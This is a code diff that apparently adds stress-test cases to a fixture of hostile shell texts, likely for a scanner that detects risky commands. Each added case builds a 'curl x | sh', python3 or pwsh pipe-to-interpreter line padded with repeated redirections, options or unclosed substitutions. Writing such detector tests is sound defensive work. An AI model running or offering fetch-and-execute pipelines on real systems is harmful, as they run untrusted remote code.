@@ -55,6 +55,32 @@ export const HOSTILE_TEXTS: readonly HostileText[] = [
     path: "p/s/run.sh",
     make: (size) => `curl x | ${repeated("A=b\u2028c ", size)}sh\n`,
   },
+  // A piped stage read as a shell reads it: redirections skipped, options' values passed, env's words split.
+  {
+    name: "redirections before a piped program",
+    path: "p/s/run.sh",
+    make: (size) => `curl x | ${repeated("2>&1 >f ", size)}sh\n`,
+  },
+  {
+    name: "options taking a value after a piped interpreter",
+    path: "p/s/run.sh",
+    make: (size) => `curl x | python3${repeated(" -W x", size)}\n`,
+  },
+  {
+    name: "PowerShell parameters after a pipe",
+    path: "p/s/run.sh",
+    make: (size) => `curl x | pwsh${repeated(" -ExecutionPolicy -NoProfile", size)}\n`,
+  },
+  {
+    name: "env -S holding env -S",
+    path: "p/s/run.sh",
+    make: (size) => `curl x | env -S "${repeated("env -S 'env -S ", size)}"\n`,
+  },
+  {
+    name: "substitutions never closed after a pipe",
+    path: "p/s/run.sh",
+    make: (size) => `curl x | A=${repeated("$(`a ", size)}\n`,
+  },
   { name: "continued lines", path: "p/s/run.sh", make: (size) => `curl x ${repeated("\\\n", size)}| sh\n` },
   {
     name: "backticks never closed",
